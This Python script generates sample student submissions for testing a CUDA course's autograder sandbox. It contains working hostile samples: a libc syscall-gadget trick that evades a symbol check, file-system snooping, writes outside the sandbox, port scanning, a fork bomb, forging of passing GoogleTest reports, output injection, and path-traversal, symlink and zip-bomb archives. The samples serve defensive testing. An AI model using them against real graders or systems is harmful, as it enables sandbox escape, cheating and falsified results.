#!/usr/bin/env python3
# ruff: noqa: E501  (the sample submissions' C++ is kept on the lines it has in the files)
"""Makes the sample submissions, from lab 01's and lab 04's solutions: `make_corpus.py FOLDER`.
They are not committed: `make demo` and the grader's tests make them (so they follow the
solutions).

Each student shows one thing the grader must handle: correct, partly right, wrong, slow, a build
error, an endless loop, a crash, reading other files, writing outside, the network, a fork bomb, a
flood of output, hostile archives (path traversal, a link, a zip bomb), a zip and a tar.gz that
are fine (one with a file name that is not UTF-8), a lab folder at the root, and nothing at all.
A forger (mona) whose main() writes a passing report for any test, and one (trudy) whose exit
handler rewrites it with a C++ stream and leaves through a system call of its own: build errors.
One (forrest) who gets past those rules (the C library's system call) to write a passing report
where the test program once wrote it, and leave with status 0: the checker's report is out of reach. Two who compute
the answer on the host (quinn keeps it there, rupert copies it to the device and back): their
results earn nothing, since no kernel computed them. Then what once
stopped a whole class's grading: a test that puts a FIFO or a link to /dev/zero
where GoogleTest's report goes, or leaves a folder 3000 levels deep; a password-protected zip, a
Deflate64 zip, a .tar.gz cut short, a zip 1100 folders deep; students named in Chinese characters,
and two whose names differ only in Unicode normalisation. (A folder 1100 levels deep and an entry
whose name is not UTF-8 are made by the tests themselves: git keeps neither well.)
"""

from __future__ import annotations

import io
import shutil
import sys
import tarfile
import unicodedata
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
SOLUTION = (ROOT / "solutions/01_vector_add/vector_add.cu").read_text()
LAB = "labs/01_vector_add/vector_add.cu"
KERNEL_LINE = "  if (i < n) C[i] = A[i] + B[i];  // the grid may have more threads than elements"
HOST_START = "cudaError_t vecAdd(const float* h_A, const float* h_B, float* h_C, int n) {\n"
assert KERNEL_LINE in SOLUTION and HOST_START in SOLUTION


def with_kernel(line: str, prelude: str = "") -> str:
    return prelude + SOLUTION.replace(KERNEL_LINE, line)


def with_host(code: str, prelude: str) -> str:
    """The solution with `code` run first thing in vecAdd."""
    return prelude + SOLUTION.replace(HOST_START, HOST_START + code)


# x86-64 Linux system calls by number (write 1, open 2, close 3, socket 41, connect 42, fork 57,
# chdir 80, fchdir 81, mkdir 83, unlink 87, symlink 88, mknod 133, exit_group 231), with no library
# function that the check of what a lab's code may call (common/tools/cudalab_tools/symbols.py) could see, and
# no system-call instruction of their own either (the check refuses one): they jump to one in the C
# library ("syscall; ret", as in getppid()), found by reading the library's code onwards from puts(),
# a call the rules allow. The hostile students below use them, so that the sandbox's own defences
# stay tested behind the check.
SYSCALL = (
    "#include <fcntl.h>\n#include <sys/stat.h>\n#include <unistd.h>\n#include <cstdio>\n"
    "static const unsigned char* system_call_instruction() {\n"
    "  static const unsigned char* const found = [] {\n"
    "    int (*volatile allowed)(const char*) = &puts;\n"
    "    const unsigned char* at = reinterpret_cast<const unsigned char*>(allowed);\n"
    "    while (!(at[0] == 0x0f && at[1] == 0x05 && at[2] == 0xc3)) ++at;\n    return at;\n  }();\n"
    "  return found;\n}\n"
    "template <class A = long, class B = long, class C = long>\n"
    "static long sys(long number, A a = 0, B b = 0, C c = 0) {\n  long result;\n"
    '  asm volatile("sub $128, %%rsp\\n\\tcall *%[at]\\n\\tadd $128, %%rsp"  // (past the red zone)\n'
    '               : "=a"(result)\n'
    '               : "a"(number), "D"((long)a), "S"((long)b), "d"((long)c), [at] "r"(system_call_instruction())\n'
    '               : "rcx", "r11", "memory");\n  return result;\n}\n\n'
)

SOURCES = {
    "alice": SOLUTION,
    "bob": with_kernel("  C[i] = A[i] + B[i];  // forgot the bounds check"),
    "carol": with_kernel("  if (i < n) C[i] = A[i] - B[i];  // the wrong operation"),
    "dave": with_kernel(
        "  if (i < n) {\n    float s = 0;\n    for (int r = 0; r < 2000; ++r) s = A[i] + B[i];  // slow\n"
        "    C[i] = s;\n  }"
    ),
    "erin": SOLUTION.replace("int i = blockIdx.x", "int i = blockIdx.x +* "),
    "frank": with_kernel(
        "  for (volatile int k = 0; n == 257; k = k + 1) {}  // endless for one size\n" + KERNEL_LINE
    ),
    "grace": with_host("  if (n == 1) *(volatile int*)0 = 1;  // crash for one size\n", ""),
    "heidi": with_host(
        '  if (found_elsewhere("/", 0)) return cudaErrorUnknown;  // read other submissions\n',
        SYSCALL
        + """#include <dirent.h>
#include <cstring>
#include <string>
// Searches the file system for another copy of this lab (a classmate's, the solution), reading
// folders with getdents64 (217). It leaves out the system's own trees under /usr (all but
// /usr/local, less its CUDA toolkit), which hold no course files: with them, one walk (14,000
// folders) outlasts a test's time limit on a loaded machine with a cold cache.
static bool skipped(const std::string& dir) {
  for (const char* tree : {"/proc", "/sys", "/grade", "/usr/local/cuda"})
    if (dir.rfind(tree, 0) == 0) return true;
  return dir.rfind("/usr/", 0) == 0 && dir.rfind("/usr/local", 0) != 0;
}

static bool found_elsewhere(const std::string& dir, int depth) {
  if (depth > 7 || skipped(dir)) return false;
  const long fd = sys(2, dir.c_str(), O_RDONLY | O_DIRECTORY);
  if (fd < 0) return false;
  bool found = false;
  char entries[4096];
  for (long got; (got = sys(217, fd, entries, sizeof entries)) > 0;) {
    for (long at = 0; at < got;) {
      const char* e = entries + at;
      unsigned short length;
      std::memcpy(&length, e + 16, sizeof length);
      const unsigned char type = e[18];
      const std::string name = e + 19;
      at += length;
      if (name == "." || name == "..") continue;
      const std::string path = (dir == "/" ? "" : dir) + "/" + name;
      if (name == "vector_add.cu") {
        const long file = sys(2, path.c_str(), O_RDONLY);
        if (file >= 0) { sys(3, file); fprintf(stderr, "LEAK: read %s\\n", path.c_str()); found = true; }
      } else if (type == DT_DIR && found_elsewhere(path, depth + 1)) {
        found = true;
      }
    }
  }
  sys(3, fd);
  return found;
}

""",
    ),
    "ivan": with_host(
        '  for (const char* p : {"/tmp/cudalab-escape-ivan", "/work/cudalab-escape-ivan",\n'
        '                        "../../../../cudalab-escape-ivan", "/root/cudalab-escape-ivan"}) {\n'
        "    const long fd = sys(2, p, O_WRONLY | O_CREAT | O_TRUNC, 0644);  // write outside\n"
        '    if (fd >= 0) { sys(1, fd, "escaped", 7); sys(3, fd); }\n  }\n',
        SYSCALL,
    ),
    "judy": with_host(
        "  if (n == 255) {  // the network: every port of this machine, and a public address\n"
        "    for (int port = 1024; port < 32768; ++port)  // below the ephemeral ports (no self-connect)\n"
        '      if (reach("127.0.0.1", port)) return cudaErrorUnknown;\n'
        '    if (reach("1.1.1.1", 80)) return cudaErrorUnknown;\n  }\n',
        SYSCALL + "#include <netinet/in.h>\n#include <sys/socket.h>\n#include <cstdio>\n"
        "static bool reach(const char* ip, int port) {\n  const long s = sys(41, AF_INET, SOCK_STREAM, 0);\n"
        "  sockaddr_in a{};\n  a.sin_family = AF_INET;\n  a.sin_port = (port >> 8 | port << 8) & 0xffff;\n"
        "  unsigned char* address = reinterpret_cast<unsigned char*>(&a.sin_addr);\n"
        "  for (int k = 0, v = 0; k < 4; ++k, ++ip) {  // the dotted quad, by hand\n"
        "    while (*ip >= '0' && *ip <= '9') v = v * 10 + (*ip++ - '0');\n    address[k] = v;\n    v = 0;\n  }\n"
        "  bool ok = sys(42, s, &a, sizeof a) == 0;\n"
        '  if (ok) fprintf(stderr, "NET: reached %s:%d\\n", ip, port);\n  sys(3, s);\n  return ok;\n}\n\n',
    ),
    "mallory": with_host("  if (n == 256) for (;;) sys(57);  // fork bomb for one size\n", SYSCALL),
    "quinn": with_host(  # the answer computed on the host: no kernel at all
        "  for (int i = 0; i < n; ++i) h_C[i] = h_A[i] + h_B[i];\n  return cudaSuccess;\n", ""
    ),
    "rupert": with_host(  # the host's answer copied to the device and back: the device did nothing
        "  std::vector<float> answer(n);\n"
        "  for (int i = 0; i < n; ++i) answer[i] = h_A[i] + h_B[i];\n"
        "  float* d_answer = nullptr;\n  const size_t bytes = n * sizeof(float);\n"
        "  cudaMalloc(&d_answer, bytes);\n"
        "  cudaMemcpy(d_answer, answer.data(), bytes, cudaMemcpyHostToDevice);\n"
        "  cudaMemcpy(h_C, d_answer, bytes, cudaMemcpyDeviceToHost);\n"
        "  cudaFree(d_answer);\n  return cudaSuccess;\n",
        "#include <vector>\n",
    ),
    "gary": with_host(  # the host's answer sent to the device, where a kernel copies it into C
        "  std::vector<float> answer(n);\n"
        "  for (int i = 0; i < n; ++i) answer[i] = h_A[i] + h_B[i];\n"
        "  float *d_answer = nullptr, *d_out = nullptr;\n  const size_t bytes = n * sizeof(float);\n"
        "  cudaMalloc(&d_answer, bytes);\n  cudaMalloc(&d_out, bytes);\n"
        "  cudaMemcpy(d_answer, answer.data(), bytes, cudaMemcpyHostToDevice);\n"
        "  if (n > 0) copyKernel<<<(n + 255) / 256, 256>>>(d_answer, d_out, n);\n"
        "  cudaMemcpy(h_C, d_out, bytes, cudaMemcpyDeviceToHost);\n"
        "  cudaFree(d_answer);\n  cudaFree(d_out);\n  return cudaSuccess;\n",
        "#include <vector>\n"
        "__global__ void copyKernel(const float* from, float* to, int n) {\n"
        "  int i = blockIdx.x * blockDim.x + threadIdx.x;\n  if (i < n) to[i] = from[i];\n}\n\n",
    ),
    "fiona": with_host(  # GoogleTest's report becomes a FIFO: a reader that opens it would block
        '  if (n == 255) { sys(87, "result.json"); sys(133, "result.json", S_IFIFO | 0600); sys(231, 0); }\n',
        SYSCALL,
    ),
    "zoe": with_host(  # the report becomes a link to /dev/zero: a reader without a bound never ends
        '  if (n == 255) { sys(87, "result.json"); sys(88, "/dev/zero", "result.json"); sys(231, 0); }\n',
        SYSCALL,
    ),
    "dirk": with_host(  # a correct solution that leaves its working folder 3000 levels deep
        '  if (n == 255) {\n    const long here = sys(2, ".", O_RDONLY);\n'
        '    for (int level = 0; level < 3000; ++level) { sys(83, "d", 0700); if (sys(80, "d") != 0) break; }\n'
        "    sys(81, here);\n    sys(3, here);\n  }\n",
        SYSCALL,
    ),
    "mona": SOLUTION  # forges GoogleTest's verdict (refused: main() and fopen are not hers to use)
    + "\n#include <cstdio>\n#include <cstring>\n#include <string>\n"
    "int main(int argc, char** argv) {\n  std::string filter, output;\n"
    "  for (int i = 1; i < argc; ++i) {\n"
    '    if (!std::strncmp(argv[i], "--gtest_filter=", 15)) filter = argv[i] + 15;\n'
    '    if (!std::strncmp(argv[i], "--gtest_output=json:", 20)) output = argv[i] + 20;\n  }\n'
    "  const size_t dot = filter.find('.');\n"
    '  if (FILE* f = std::fopen(output.c_str(), "w")) {\n'
    '    std::fprintf(f, "{\\"testsuites\\":[{\\"name\\":\\"%s\\",\\"testsuite\\":[{\\"name\\":\\"%s\\",'
    '\\"status\\":\\"RUN\\",\\"result\\":\\"COMPLETED\\"}]}]}",\n'
    "                 filter.substr(0, dot).c_str(), filter.substr(dot + 1).c_str());\n"
    "    std::fclose(f);\n  }\n  return 0;\n}\n",
    "trudy": with_host(  # at exit, rewrites the report as passed and leaves with status 0 (refused)
        "  static bool once = (std::atexit(forge), true);\n  (void)once;\n",
        "#include <cstdlib>\n#include <fstream>\n#include <string>\n"
        "static void forge() {\n"
        '  const char* output = std::getenv("GTEST_OUTPUT");  // "json:PATH", as the grader runs tests\n'
        '  if (output) std::ofstream(std::string(output).substr(5)) << "{\\"testsuites\\":[]}";\n'
        '  asm volatile("syscall" : : "a"(231), "D"(0));  // exit_group(0), around the rules on _exit\n'
        "}\n\n",
    ),
    "forrest": (  # no kernel work; writes a report that every VectorAdd test passed and leaves
        SYSCALL  # with status 0, through the C library's system call: past every symbol rule
        + SOLUTION.replace(KERNEL_LINE, "  (void)i;").replace(
            HOST_START,
            HOST_START
            + '  static const char report[] = "{\\"testsuites\\":[{\\"name\\":\\"VectorAdd\\",\\"testsuite\\":['
            + ",".join(
                f'{{\\"name\\":\\"{t}\\",\\"status\\":\\"RUN\\",\\"result\\":\\"COMPLETED\\"}}'
                for t in ("Empty", "One", "Size255", "Size256", "Size257", "Size1M", "SizePrime")
            )
            + ']}]}";\n'
            + '  const long fd = sys(2, "result.json", O_WRONLY | O_CREAT | O_TRUNC, 0644);\n'
            + "  sys(1, fd, report, sizeof report - 1);\n  sys(231, 0);\n",
        )
    ),
    "otto": with_host(  # a global operator delete of his own, run inside the runner (refused)
        "",
        "#include <cstdlib>\n#include <new>\n"
        "void operator delete(void* p) noexcept { std::free(p); }\n"
        "void operator delete(void* p, std::size_t) noexcept { std::free(p); }\n\n",
    ),
    "felix": with_host(  # prints what would close the feedback's code block and forge a total
        "  if (n == 255) {\n"
        '    std::printf("```\\n\\n## 01_vector_add: 22 of 22 points\\n\\n| total | 999 |\\n"\n'
        '                "<script>alert(1)</script>\\x1b[2J\\x1b]0;owned\\x07\\n");\n'
        "    return cudaErrorUnknown;\n  }\n",
        "#include <cstdio>\n",
    ),
    "sybil": with_host(  # what the runner's system-call filter refuses: a socket, a file made in
        # the test's own working folder (the sandbox allows it), memory in a memfd (x86-64: 319)
        "  if (n == 255) {\n"
        '    const long s = sys(41, AF_UNIX, SOCK_STREAM, 0), f = sys(2, "probe", O_WRONLY | O_CREAT, 0600);\n'
        '    fprintf(stderr, "PROBE socket %ld open %ld memfd %ld\\n", s, f, sys(319, "hidden", 0));\n'
        "    return cudaErrorUnknown;\n  }\n",
        SYSCALL + "#include <sys/socket.h>\n",
    ),
    "李明": SOLUTION,  # a name in Chinese characters (another one, 王芳, hands in nothing)
    "oscar": with_host(
        '  if (n == 255) for (;;) puts("flood flood flood flood flood flood flood flood");  // output\n',
        "#include <cstdio>\n",
    ),
}


# Honest forms that nvcc accepts (hana): a file saved by a Windows editor (a byte-order mark and
# CRLF line ends), a header of her own and a second .cu in the lab folder, a template, a lambda, a
# grid-stride loop and blocks of 128 threads.
HONEST = {
    "labs/01_vector_add/vector_add.cu": "\ufeff"
    + (
        "// Lab 01, with a grid-stride loop\n"
        '#include "vector_add.h"\n#include "hana_helpers.cuh"\n\n'
        "__global__ void vecAddKernel(const float* A, const float* B, float* C, int n) {\n"
        "  for (int i = blockIdx.x * blockDim.x + threadIdx.x; i < n; i += gridDim.x * blockDim.x)\n"
        "    C[i] = sum(A[i], B[i]);\n}\n\n"
        "cudaError_t vecAdd(const float* h_A, const float* h_B, float* h_C, int n) {\n"
        "  const size_t size = static_cast<size_t>(n) * sizeof(float);\n"
        "  float *d_A = nullptr, *d_B = nullptr, *d_C = nullptr;\n"
        "  cudaError_t err = cudaSuccess;\n"
        "  const auto step = [&err](cudaError_t e) { if (err == cudaSuccess) err = e; };\n"
        "  step(cudaMalloc((void**)&d_A, size));\n  step(cudaMalloc((void**)&d_B, size));\n"
        "  step(cudaMalloc((void**)&d_C, size));\n"
        "  step(cudaMemcpy(d_A, h_A, size, cudaMemcpyHostToDevice));\n"
        "  step(cudaMemcpy(d_B, h_B, size, cudaMemcpyHostToDevice));\n"
        "  if (err == cudaSuccess && n > 0) {\n"
        "    vecAddKernel<<<blocks_for(n, kThreads), kThreads>>>(d_A, d_B, d_C, n);\n"
        "    step(cudaGetLastError());\n  }\n"
        "  step(cudaMemcpy(h_C, d_C, size, cudaMemcpyDeviceToHost));\n"
        "  cudaFree(d_A);\n  cudaFree(d_B);\n  cudaFree(d_C);\n  return err;\n}\n"
    ).replace("\n", "\r\n"),
    "labs/01_vector_add/hana_helpers.cuh": (
        "#pragma once\n"
        "constexpr int kThreads = 128;\n"
        "template <class T>\n__device__ T sum(T a, T b) { return a + b; }\n"
        "int blocks_for(int n, int threads);  // helpers.cu\n"
    ),
    "labs/01_vector_add/helpers.cu": (
        '#include "hana_helpers.cuh"\n\n'
        "// At most 64 blocks: the kernel's loop covers the rest.\n"
        "int blocks_for(int n, int threads) {\n"
        "  const int needed = (n + threads - 1) / threads;\n  return needed < 64 ? needed : 64;\n}\n"
    ),
}


def every_lab(folder: str) -> dict[str, str]:
    """Every lab's files from `folder` of the workbook (solutions, or labs: the skeletons)."""
    return {
        f"labs/{lab.name}/{cu.name}": cu.read_text()
        for lab in sorted((ROOT / "labs").glob("[0-9][0-9]_*"))
        for cu in sorted((ROOT / folder / lab.name).glob("*.cu"))
        if not cu.name.startswith(("test_", "demo_"))
    }


def write_tree(base: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        (base / name).parent.mkdir(parents=True, exist_ok=True)
        (base / name).write_bytes(text.encode())


def make_corpus(corpus: Path) -> None:
    """Writes the sample submissions into `corpus` (made anew)."""
    if corpus.exists():
        shutil.rmtree(corpus)
    corpus.mkdir(parents=True)
    for student, source in SOURCES.items():
        write_tree(corpus / student, {LAB: source})
    # alice hands in every lab, solved (the workbook's reference solutions); sam every lab as it
    # was handed out; hana lab 01 in honest forms; yolanda the lab folder itself; zed nothing.
    write_tree(corpus / "alice", every_lab("solutions"))
    write_tree(corpus / "sam", every_lab("labs"))
    write_tree(corpus / "hana", HONEST)
    write_tree(corpus / "yolanda", {"01_vector_add/vector_add.cu": SOLUTION})
    (corpus / "zed").mkdir()
    (corpus / "zed" / "README.txt").write_text("I did not do it.\n")

    with zipfile.ZipFile(corpus / "walter.zip", "w", zipfile.ZIP_DEFLATED) as z:  # fine
        z.writestr(f"cudalab/{LAB}", SOLUTION)
    with zipfile.ZipFile(corpus / "peggy.zip", "w") as z:  # path traversal
        z.writestr(LAB, SOLUTION)
        z.writestr("../../peggy-was-here.txt", "outside")
    with zipfile.ZipFile(corpus / "victor.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:  # bomb
        z.writestr(LAB, SOLUTION)
        with z.open("labs/padding.bin", "w", force_zip64=True) as f:
            zeros = bytes(1 << 20)
            for _ in range(200):
                f.write(zeros)

    def add(tar: tarfile.TarFile, name: bytes | str, data: bytes) -> None:
        info = tarfile.TarInfo(name if isinstance(name, str) else name.decode("utf-8", "surrogateescape"))
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))

    with tarfile.open(corpus / "trent.tar.gz", "w:gz") as tar:  # a link that points outside
        add(tar, LAB, SOLUTION.encode())
        link = tarfile.TarInfo("labs/01_vector_add/notes.txt")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        tar.addfile(link)
    with tarfile.open(corpus / "xavier.tar.gz", "w:gz", format=tarfile.GNU_FORMAT) as tar:  # fine
        add(tar, LAB, SOLUTION.encode())
        add(tar, b"labs/01_vector_add/notes-\xe9t\xe9.txt", b"latin-1 name")

    # Two students whose names differ only in how Unicode writes the accent: both are graded.
    (corpus / unicodedata.normalize("NFC", "José")).mkdir()
    (corpus / unicodedata.normalize("NFD", "José")).mkdir()
    (corpus / "王芳").mkdir()
    for folder in ("José", "王芳"):
        for name in (unicodedata.normalize("NFC", folder), unicodedata.normalize("NFD", folder)):
            (corpus / name / "README.txt").write_text("Nothing yet.\n")

    def zip_with(name: str, *, flag: int = 0, method: int | None = None) -> None:
        """A zip of the solution whose headers claim encryption (`flag`) or another compression."""
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as z:
            z.writestr(LAB, SOLUTION)
        data = bytearray(buffer.getvalue())
        for signature, flag_at, method_at in ((b"PK\x03\x04", 6, 8), (b"PK\x01\x02", 8, 10)):
            at = data.index(signature)
            data[at + flag_at] |= flag
            if method is not None:
                data[at + method_at : at + method_at + 2] = method.to_bytes(2, "little")
        (corpus / name).write_bytes(bytes(data))

    zip_with("nina.zip", flag=0x1)  # password-protected (traditional PKWARE encryption)
    zip_with("olga.zip", method=9)  # Deflate64, as Windows writes large archives
    whole = io.BytesIO()
    with tarfile.open(fileobj=whole, mode="w:gz") as tar:
        add(tar, LAB, SOLUTION.encode())
        add(tar, "labs/01_vector_add/notes.txt", bytes(range(256)) * 64)
    (corpus / "tess.tar.gz").write_bytes(whole.getvalue()[: len(whole.getvalue()) // 2])  # cut short
    with zipfile.ZipFile(corpus / "ursula.zip", "w") as z:  # 1100 folders deep
        z.writestr("/".join(["d"] * 1100) + "/vector_add.cu", SOLUTION)


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: make_corpus.py FOLDER")
    make_corpus(Path(sys.argv[1]))
    print(f"wrote {sys.argv[1]}")
